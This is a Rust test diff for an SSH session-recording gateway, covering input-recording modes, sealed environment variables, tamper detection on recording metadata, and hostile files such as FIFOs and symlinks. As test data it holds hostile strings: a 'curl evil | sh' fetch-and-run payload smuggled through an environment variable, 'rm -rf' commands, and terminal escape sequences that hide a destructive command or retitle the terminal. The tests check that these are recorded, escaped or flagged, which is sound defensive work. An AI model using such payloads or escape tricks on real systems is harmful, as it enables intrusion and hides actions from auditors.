@@ -91,7 +91,13 @@ fn meta(kind: RecordingKind, record_input: bool) -> RecordingMeta {
         source: "127.0.0.1:5555".into(),
         wireguard_peer: Some("10.77.0.2".into()),
         kind,
-        record_input,
+        record_input: if record_input {
+            crate::config::RecordInput::All
+        } else {
+            crate::config::RecordInput::None
+        },
+        pty: false,
+        env: Vec::new(),
     }
 }
 
@@ -1144,4 +1150,474 @@ async fn sftp_data_without_operations_keeps_the_queue_moving_past_a_time_seal() 
     r.finish(Some(0), "closed", 0, u64::from(body_len))
         .await
         .unwrap();
+}
+
+// ---- record_input modes, environment, meta.json binding, hostile files ----
+
+fn exec_meta(command: &[u8], mode: crate::config::RecordInput, pty: bool) -> RecordingMeta {
+    RecordingMeta {
+        record_input: mode,
+        pty,
+        ..meta(
+            RecordingKind::Exec {
+                command: command.to_vec(),
+            },
+            false,
+        )
+    }
+}
+
+/// A finished exec recording of `meta` that read `stdin` and printed "out".
+async fn finished_exec(f: &Fixture, m: RecordingMeta, stdin: &[u8]) -> String {
+    let r = f.rec.start(m).await.unwrap();
+    r.input(b(stdin)).await.unwrap();
+    r.output(b(b"out\n")).await.unwrap();
+    r.finish(Some(0), "closed", stdin.len() as u64, 4)
+        .await
+        .unwrap();
+    r.id().to_string()
+}
+
+#[test]
+fn input_is_stored_per_mode_kind_and_pty() {
+    use crate::config::RecordInput::{All, Exec, None};
+    let case = |kind: RecordingKind, mode, pty| {
+        RecordingMeta {
+            record_input: mode,
+            pty,
+            ..meta(kind, false)
+        }
+        .stores_input()
+    };
+    let exec = || RecordingKind::Exec {
+        command: b"sh".to_vec(),
+    };
+    // "exec": the stdin of a channel without a PTY, nothing else.
+    assert!(case(exec(), Exec, false));
+    assert!(case(shell(), Exec, false), "ssh host < script.sh");
+    assert!(!case(exec(), Exec, true), "keystrokes of ssh -t host cmd");
+    assert!(!case(shell(), Exec, true), "shell keystrokes");
+    assert!(!case(RecordingKind::Sftp, Exec, false), "file contents");
+    assert!(!case(RecordingKind::Sftp, All, false), "file contents");
+    // "all": keystrokes too; "none": nothing.
+    assert!(case(shell(), All, true) && case(exec(), All, true));
+    assert!(!case(exec(), None, false) && !case(shell(), None, true));
+    assert_eq!(crate::config::RecordInput::default(), Exec);
+}
+
+#[tokio::test]
+async fn exec_stdin_is_recorded_by_default_and_shell_keystrokes_are_not() {
+    use crate::config::RecordInput;
+    let f = fixture();
+    let script = b"echo from-the-script\nrm -rf /tmp/x\n";
+    let id = finished_exec(&f, exec_meta(b"sh", RecordInput::Exec, false), script).await;
+    let ev = show_json(&f, &id, &f.keys.ssh);
+    assert_eq!(stream_bytes(&ev, "input"), script);
+    assert_eq!(ev[0]["record_input"], true);
+    assert_eq!(ev[0]["record_input_mode"], "exec");
+    // The same under "none": not stored.
+    let id = finished_exec(&f, exec_meta(b"sh", RecordInput::None, false), script).await;
+    assert!(stream_bytes(&show_json(&f, &id, &f.keys.ssh), "input").is_empty());
+    // A PTY shell under the default: keystrokes (a password) not stored.
+    let r = f
+        .rec
+        .start(RecordingMeta {
+            record_input: RecordInput::Exec,
+            pty: true,
+            ..meta(shell(), false)
+        })
+        .await
+        .unwrap();
+    r.input(b(b"hunter2\r")).await.unwrap();
+    r.finish(Some(0), "closed", 8, 0).await.unwrap();
+    let ev = show_json(&f, r.id(), &f.keys.ssh);
+    assert!(stream_bytes(&ev, "input").is_empty());
+    assert_eq!(ev[0]["record_input"], false);
+}
+
+#[tokio::test]
+async fn allowed_environment_variables_are_in_the_sealed_header_with_their_values() {
+    let f = fixture();
+    let m = RecordingMeta {
+        env: vec![
+            ("LC_PAYLOAD".into(), "curl evil | sh".into()),
+            ("LANG".into(), "C.UTF-8".into()),
+        ],
+        ..exec_meta(b"sh -c \"$LC_PAYLOAD\"", Default::default(), false)
+    };
+    let id = finished_exec(&f, m, b"").await;
+    let ev = show_json(&f, &id, &f.keys.ssh);
+    assert_eq!(
+        ev[0]["env"],
+        serde_json::json!([["LC_PAYLOAD", "curl evil | sh"], ["LANG", "C.UTF-8"]])
+    );
+    // In every sealed segment's header, and not in the plaintext metadata.
+    let cast = export_cast(&f, &id);
+    let header: Value = serde_json::from_str(cast.lines().next().unwrap()).unwrap();
+    assert_eq!(header["gatehouse"]["env"][0][1], "curl evil | sh");
+    let on_disk = std::fs::read_to_string(f.root.join(&id).join(format::META_FILE)).unwrap();
+    assert!(!on_disk.contains("curl evil"));
+    let text = show_text(&f, &id);
+    assert!(
+        text.contains("env:      LC_PAYLOAD=curl evil | sh"),
+        "{text}"
+    );
+}
+
+fn show_text(f: &Fixture, id: &str) -> String {
+    let stored = reader::open(&f.root, id).unwrap();
+    let ids = reader::load_identities(&f.keys.ssh).unwrap();
+    let mut out = Vec::new();
+    export::show(&stored, &ids, false, &mut out).unwrap();
+    String::from_utf8(out).unwrap()
+}
+
+fn verify_problems(f: &Fixture, id: &str) -> Vec<String> {
+    reader::verify(&reader::open(&f.root, id).unwrap()).problems
+}
+
+#[tokio::test]
+async fn meta_json_edited_to_blame_someone_else_fails_verify_naming_meta_json() {
+    let f = fixture();
+    let id = finished_exec(&f, exec_meta(b"id", Default::default(), false), b"").await;
+    let dir = f.root.join(&id);
+    let original = std::fs::read(dir.join(format::META_FILE)).unwrap();
+    assert!(verify_problems(&f, &id).is_empty());
+    // The binding is in segment 0's manifest entry and in the audit event.
+    let digest = hex::encode(format::meta_sha256(&stored_meta(&dir)));
+    assert_eq!(manifest(&dir)[0].meta_sha256.as_deref(), Some(&*digest));
+    let started = serde_json::json!({
+        "event": "recording.started", "recording_id": id, "user": "alice",
+        "login": "deploy", "target": "web-1", "meta_sha256": digest,
+    });
+    let index = AuditIndex::parse(&started.to_string());
+
+    let mut m = stored_meta(&dir);
+    m.user = "bob".into();
+    std::fs::write(
+        dir.join(format::META_FILE),
+        serde_json::to_vec_pretty(&m).unwrap(),
+    )
+    .unwrap();
+    let p = verify_problems(&f, &id);
+    assert!(
+        p.iter()
+            .any(|p| p.starts_with("meta.json: altered") && p.contains("user bob")),
+        "{p:?}"
+    );
+    // With the audit log: named too.
+    let stored = reader::open(&f.root, &id).unwrap();
+    let mut v = reader::verify(&stored);
+    index.check(&stored, &mut v);
+    assert!(
+        v.problems.iter().any(|p| p.contains("recording.started")
+            && p.contains("user bob where the audit log says alice")),
+        "{:?}",
+        v.problems
+    );
+    // The end reason is checked against recording.finished.
+    let finished = serde_json::json!({
+        "event": "recording.finished", "recording_id": id, "segments": 2,
+        "chain": manifest(&dir).last().unwrap().chain, "reason": "closed",
+    });
+    let both = AuditIndex::parse(&format!("{started}\n{finished}"));
+    let mut m2 = stored_meta(&dir);
+    m2.user = "alice".into();
+    m2.end.as_mut().unwrap().reason = "session reached its maximum length".into();
+    std::fs::write(
+        dir.join(format::META_FILE),
+        serde_json::to_vec(&m2).unwrap(),
+    )
+    .unwrap();
+    let stored2 = reader::open(&f.root, &id).unwrap();
+    let mut v = reader::verify(&stored2);
+    assert!(v.ok(), "the end is not in the chain: {:?}", v.problems);
+    both.check(&stored2, &mut v);
+    assert!(
+        v.problems
+            .iter()
+            .any(|p| p.contains("end reason") && p.contains("recording.finished")),
+        "{:?}",
+        v.problems
+    );
+    std::fs::write(dir.join(format::META_FILE), serde_json::to_vec(&m).unwrap()).unwrap();
+    // And the tools with a key refuse it.
+    let ids = reader::load_identities(&f.keys.ssh).unwrap();
+    let err = export::export(&stored, &ids, &mut Vec::new()).unwrap_err();
+    assert!(err.to_string().contains("meta.json"), "{err}");
+
+    // The start time and the source are covered as well.
+    for edit in [
+        |m: &mut format::Meta| m.started = "2020-01-01T00:00:00Z".into(),
+        |m: &mut format::Meta| m.source = "10.9.9.9:22".into(),
+        |m: &mut format::Meta| m.started_unix_ms += 1,
+    ] {
+        let mut m: format::Meta = serde_json::from_slice(&original).unwrap();
+        edit(&mut m);
+        std::fs::write(dir.join(format::META_FILE), serde_json::to_vec(&m).unwrap()).unwrap();
+        assert!(
+            verify_problems(&f, &id)
+                .iter()
+                .any(|p| p.starts_with("meta.json: altered")),
+            "{m:?}"
+        );
+    }
+    std::fs::write(dir.join(format::META_FILE), &original).unwrap();
+    assert!(verify_problems(&f, &id).is_empty());
+}
+
+#[tokio::test]
+async fn meta_json_edited_with_a_consistently_rewritten_chain_is_caught_by_the_audit_log_and_the_key(
+) {
+    let f = fixture();
+    let id = finished_exec(&f, exec_meta(b"id", Default::default(), false), b"").await;
+    let dir = f.root.join(&id);
+    let digest = hex::encode(format::meta_sha256(&stored_meta(&dir)));
+    // Root on the gateway blames bob and rewrites the manifest so that the
+    // keyless check passes: new meta hash, chain recomputed.
+    let mut m = stored_meta(&dir);
+    m.user = "bob".into();
+    let new_digest = format::meta_sha256(&m);
+    let mut prev = format::genesis_bound(&id, &new_digest);
+    let mut lines = Vec::new();
+    for mut e in manifest(&dir) {
+        if e.seq == 0 {
+            e.meta_sha256 = Some(hex::encode(new_digest));
+        }
+        let c = format::chain_next(&id, e.seq, &prev, &format::parse_hash(&e.sha256).unwrap());
+        e.chain = hex::encode(c);
+        prev = c;
+        lines.push(serde_json::to_string(&e).unwrap());
+    }
+    m.end.as_mut().unwrap().final_chain = hex::encode(prev);
+    std::fs::write(dir.join(format::MANIFEST_FILE), lines.join("\n") + "\n").unwrap();
+    std::fs::write(dir.join(format::META_FILE), serde_json::to_vec(&m).unwrap()).unwrap();
+    assert!(verify_problems(&f, &id).is_empty(), "consistent rewrite");
+    let started = serde_json::json!({
+        "event": "recording.started", "recording_id": id, "user": "alice",
+        "meta_sha256": digest,
+    });
+    let stored = reader::open(&f.root, &id).unwrap();
+    let mut v = reader::verify(&stored);
+    AuditIndex::parse(&started.to_string()).check(&stored, &mut v);
+    assert!(
+        v.problems
+            .iter()
+            .any(|p| p.starts_with("meta.json: differs")),
+        "{:?}",
+        v.problems
+    );
+    // The sealed header (which needs the auditors' key to rewrite) disagrees.
+    let ids = reader::load_identities(&f.keys.ssh).unwrap();
+    let err = export::show(&stored, &ids, false, &mut Vec::new()).unwrap_err();
+    assert!(err.to_string().contains("failed verification"), "{err}");
+}
+
+#[tokio::test]
+async fn a_format_2_recording_without_a_meta_hash_verifies_with_a_note() {
+    let f = fixture();
+    let id = finished_exec(&f, exec_meta(b"id", Default::default(), false), b"").await;
+    let dir = f.root.join(&id);
+    // As gatehouse-recording/2 wrote it: plain genesis, no meta hash.
+    let mut prev = format::genesis(&id);
+    let mut lines = Vec::new();
+    for mut e in manifest(&dir) {
+        e.meta_sha256 = None;
+        let c = format::chain_next(&id, e.seq, &prev, &format::parse_hash(&e.sha256).unwrap());
+        e.chain = hex::encode(c);
+        prev = c;
+        lines.push(serde_json::to_string(&e).unwrap());
+    }
+    let mut m = stored_meta(&dir);
+    m.format = "gatehouse-recording/2".into();
+    m.end.as_mut().unwrap().final_chain = hex::encode(prev);
+    std::fs::write(dir.join(format::MANIFEST_FILE), lines.join("\n") + "\n").unwrap();
+    std::fs::write(dir.join(format::META_FILE), serde_json::to_vec(&m).unwrap()).unwrap();
+    let v = reader::verify(&reader::open(&f.root, &id).unwrap());
+    assert!(v.ok(), "{:?}", v.problems);
+    assert!(
+        v.notes
+            .iter()
+            .any(|n| n.contains("not covered by the hash chain")),
+        "{:?}",
+        v.notes
+    );
+    // Format 3 metadata with the hash stripped from the manifest is a problem.
+    m.format = format::FORMAT.into();
+    std::fs::write(dir.join(format::META_FILE), serde_json::to_vec(&m).unwrap()).unwrap();
+    assert!(
+        verify_problems(&f, &id)
+            .iter()
+            .any(|p| p.contains("binds no metadata hash")),
+        "{:?}",
+        verify_problems(&f, &id)
+    );
+}
+
+fn mkfifo(path: &Path) {
+    let st = std::process::Command::new("mkfifo")
+        .arg(path)
+        .status()
+        .unwrap();
+    assert!(st.success());
+}
+
+/// Runs `f` on a thread and fails if it does not return within 10 s.
+fn within_10s<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let _ = tx.send(f());
+    });
+    rx.recv_timeout(Duration::from_secs(10))
+        .expect("hung on a hostile file")
+}
+
+#[tokio::test]
+async fn a_segment_that_is_a_symlink_to_dev_zero_is_damage_by_name_not_hashed_for_ever() {
+    let f = fixture();
+    let id = recording_with_segments(&f, 2).await;
+    let seg = f.root.join(&id).join(format::segment_file(1));
+    std::fs::remove_file(&seg).unwrap();
+    std::os::unix::fs::symlink("/dev/zero", &seg).unwrap();
+    let root = f.root.clone();
+    let p = within_10s(move || reader::verify(&reader::open(&root, &id).unwrap()).problems);
+    assert!(
+        p.iter()
+            .any(|p| p.contains("segment 1 (000001.age): damaged: is a symbolic link")),
+        "{p:?}"
+    );
+}
+
+#[tokio::test]
+async fn fifos_in_a_recording_do_not_hang_verify_or_show() {
+    let f = fixture();
+    let id = recording_with_segments(&f, 2).await;
+    let dir = f.root.join(&id);
+    let seg = dir.join(format::segment_file(1));
+    std::fs::remove_file(&seg).unwrap();
+    mkfifo(&seg);
+    let (root, id2) = (f.root.clone(), id.clone());
+    let p = within_10s(move || reader::verify(&reader::open(&root, &id2).unwrap()).problems);
+    assert!(
+        p.iter()
+            .any(|p| p.contains("segment 1 (000001.age): damaged: is a FIFO")),
+        "{p:?}"
+    );
+    let (root, id2, key) = (f.root.clone(), id.clone(), f.keys.ssh.clone());
+    let err = within_10s(move || {
+        let stored = reader::open(&root, &id2).unwrap();
+        let ids = reader::load_identities(&key).unwrap();
+        export::show(&stored, &ids, false, &mut Vec::new())
+            .unwrap_err()
+            .to_string()
+    });
+    assert!(err.contains("is a FIFO"), "{err}");
+    // meta.json and the manifest as FIFOs.
+    for name in [format::META_FILE, format::MANIFEST_FILE] {
+        let path = dir.join(name);
+        let saved = std::fs::read(&path).unwrap();
+        std::fs::remove_file(&path).unwrap();
+        mkfifo(&path);
+        let (root, id2) = (f.root.clone(), id.clone());
+        let p = within_10s(move || reader::verify(&reader::open(&root, &id2).unwrap()).problems);
+        assert!(
+            p.iter().any(|p| p.contains(name) && p.contains("FIFO")),
+            "{name}: {p:?}"
+        );
+        std::fs::remove_file(&path).unwrap();
+        std::fs::write(&path, saved).unwrap();
+    }
+}
+
+#[tokio::test]
+async fn a_segment_over_its_bound_is_reported_unread_and_a_symlinked_recording_is_refused() {
+    let f = fixture();
+    let id = recording_with_segments(&f, 2).await;
+    let dir = f.root.join(&id);
+    let seg = dir.join(format::segment_file(1));
+    // Sparse: 1 TiB that would take hours to hash.
+    std::fs::OpenOptions::new()
+        .write(true)
+        .open(&seg)
+        .unwrap()
+        .set_len(1 << 40)
+        .unwrap();
+    let (root, id2) = (f.root.clone(), id.clone());
+    let p = within_10s(move || reader::verify(&reader::open(&root, &id2).unwrap()).problems);
+    assert!(
+        p.iter()
+            .any(|p| p.contains("segment 1 (000001.age): replaced") && p.contains("not read")),
+        "{p:?}"
+    );
+    // A manifest claiming a huge size does not raise the bound.
+    let mut entries = manifest(&dir);
+    entries[1].size = 1 << 40;
+    let lines: Vec<String> = entries
+        .iter()
+        .map(|e| serde_json::to_string(e).unwrap())
+        .collect();
+    std::fs::write(dir.join(format::MANIFEST_FILE), lines.join("\n") + "\n").unwrap();
+    let (root, id2) = (f.root.clone(), id.clone());
+    let p = within_10s(move || reader::verify(&reader::open(&root, &id2).unwrap()).problems);
+    assert!(
+        p.iter()
+            .any(|p| p.contains("segment 1 (000001.age): the manifest claims")),
+        "{p:?}"
+    );
+    let link = f.root.join("20990101T000000Z-link");
+    std::os::unix::fs::symlink(&dir, &link).unwrap();
+    let err = reader::open(&f.root, "20990101T000000Z-link").unwrap_err();
+    assert!(err.to_string().contains("symbolic link"), "{err}");
+    assert!(!reader::list(&f.root)
+        .unwrap()
+        .iter()
+        .any(|s| s.id.ends_with("-link")));
+}
+
+#[tokio::test]
+async fn command_and_metadata_escapes_never_reach_the_auditors_terminal() {
+    let f = fixture();
+    let command = b"rm -rf / #\r\x1b[2K\x1b[1A\x1b[2Kuptime";
+    let id = finished_exec(&f, exec_meta(command, Default::default(), false), b"").await;
+    let cast = export_cast(&f, &id);
+    let mut lines = cast.lines();
+    let header: Value = serde_json::from_str(lines.next().unwrap()).unwrap();
+    // Exact bytes in the metadata.
+    assert_eq!(
+        header["gatehouse"]["command"].as_str().unwrap().as_bytes(),
+        command
+    );
+    let first: Value = serde_json::from_str(lines.next().unwrap()).unwrap();
+    let shown = first[2].as_str().unwrap();
+    assert!(shown.starts_with("$ rm -rf / #"), "{shown}");
+    let body = shown.strip_suffix("\r\n").unwrap();
+    assert!(!body.contains('\x1b') && !body.contains('\r'), "{shown:?}");
+    assert!(body.contains("\\r\\u{1b}[2K"), "{shown:?}");
+    // play writes the same escaped line.
+    let stored = reader::open(&f.root, &id).unwrap();
+    let ids = reader::load_identities(&f.keys.ssh).unwrap();
+    let mut played = Vec::new();
+    export::play(&stored, &ids, 100.0, Duration::ZERO, &mut played).unwrap();
+    let played = String::from_utf8(played).unwrap();
+    assert!(played.starts_with("$ rm -rf / #\\r\\u{1b}"), "{played:?}");
+    // Not the command: the output the target printed, replayed as it was.
+
+    // Crafted meta.json fields (the meta hash then fails, but the tools
+    // still print them): escaped in show's summary.
+    let dir = f.root.join(&id);
+    let mut m = stored_meta(&dir);
+    m.started = "2026\x1b[2J\r".into();
+    m.end.as_mut().unwrap().ended = "x\x1b]0;pwned\x07".into();
+    m.end.as_mut().unwrap().reason = "r\x1b[1A".into();
+    let v = reader::verify(&reader::open(&f.root, &id).unwrap());
+    let stored = reader::Stored {
+        meta: Ok(m),
+        ..reader::open(&f.root, &id).unwrap()
+    };
+    for line in export::summary_for_tests(&stored, &v) {
+        assert!(
+            !line.contains('\x1b') && !line.contains('\r') && !line.contains('\x07'),
+            "{line:?}"
+        );
+    }
 }
